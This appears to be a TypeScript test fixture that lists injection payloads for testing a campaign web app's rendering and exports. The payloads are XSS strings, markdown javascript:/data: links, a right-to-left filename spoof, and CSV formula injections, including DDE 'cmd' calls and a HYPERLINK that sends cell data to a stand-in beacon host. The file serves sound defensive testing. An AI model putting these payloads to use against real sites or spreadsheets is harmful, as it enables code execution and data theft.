/**
 * Hostile strings for the injection tests (issue #7): each one, were it ever parsed as markup or
 * followed as a link, would set `window.__xss` or fetch a URL containing `xss-beacon`, so a test can
 * tell "shown as text" from "ran". Shared by the browser test (the page, the widget, the dashboard)
 * and the unit tests (the dossier PDF, the CSV).
 */

/** What a payload does when it runs: the browser test watches for this flag. */
export const XSS_FLAG = '__xss';
/** Any request whose URL contains this came from an injected element (an image, a frame, a link). */
export const BEACON = 'xss-beacon';

/** Markup and attribute breakers: for plain-text fields (title, targets, names, comments, cosigners). */
export const HTML_PAYLOADS: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<img src="/xss-beacon/img" onerror=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '"\'><script>window.__xss=1</script>',
  '\'"><img src=/xss-beacon/attr onerror=window.__xss=1>',
  '" onmouseover="window.__xss=1" x="',
  "' autofocus onfocus='window.__xss=1",
  '&lt;script&gt;window.__xss=1&lt;/script&gt; &amp; &#60;b&#62; &quot;',
  '</title><script>window.__xss=1</script>',
  '</textarea><script>window.__xss=1</script>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<a href="javascript:window.__xss=1">click</a>',
  '<math><mtext><table><mglyph><style><img src=/xss-beacon/mxss onerror=window.__xss=1>',
  '<style>body{background:url(/xss-beacon/css)}</style>',
  '<base href="https://xss-beacon.invalid/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
  '<object data="javascript:window.__xss=1"></object>',
  'javascript:window.__xss=1',
  '{{constructor.constructor(\'window.__xss=1\')()}} ${window.__xss=1}',
  // Right-to-left override: "Pay ‮exe.gnp‬" reads as "Pay png.exe" when the override is applied.
  'Pay \u202Eexe.gnp\u202C now',
];

/**
 * Markdown tricks for the campaign text: links and images with script, data and vbscript addresses,
 * disguised by case, entities, reference definitions and autolinks, and raw HTML inside markdown.
 */
export const MARKDOWN_PAYLOADS: readonly string[] = [
  '[plain js](javascript:window.__xss=1)',
  '[mixed case](JaVaScRiPt:window.__xss=1)',
  '[entity](&#106;avascript:window.__xss=1)',
  '[encoded](javascript&#58;window.__xss=1)',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
  '[vbscript](vbscript:msgbox(1))',
  '[quote breaker](https://example.org/"onmouseover="window.__xss=1)',
  '[reference][evil]\n\n[evil]: javascript:window.__xss=1',
  '<javascript:window.__xss=1>',
  '![image](https://xss-beacon.invalid/x.png)',
  '![image with handler](x" onerror="window.__xss=1)',
  '![js image](javascript:window.__xss=1)',
  '*<b onmouseover=window.__xss=1>bold</b>*',
  '<details open ontoggle=window.__xss=1>',
  '[ok link](https://example.org/petition)',
];

/** A campaign text holding every payload, markdown and HTML, one paragraph each. */
export const HOSTILE_MARKDOWN = ['## <script>window.__xss=1</script> heading', ...MARKDOWN_PAYLOADS, ...HTML_PAYLOADS].join('\n\n');

/** Cells a spreadsheet would run as a formula (CSV injection), with the classic DDE payloads. */
export const FORMULA_PAYLOADS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://xss-beacon.invalid/?"&A1,"click")',
  '+cmd|\' /C notepad\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  ' =1+1',
  '   @SUM(A1:A9)',
  '\n=1+1',
  '\u00A0=1+1',
  ' \t -1',
  '=1+1',
];
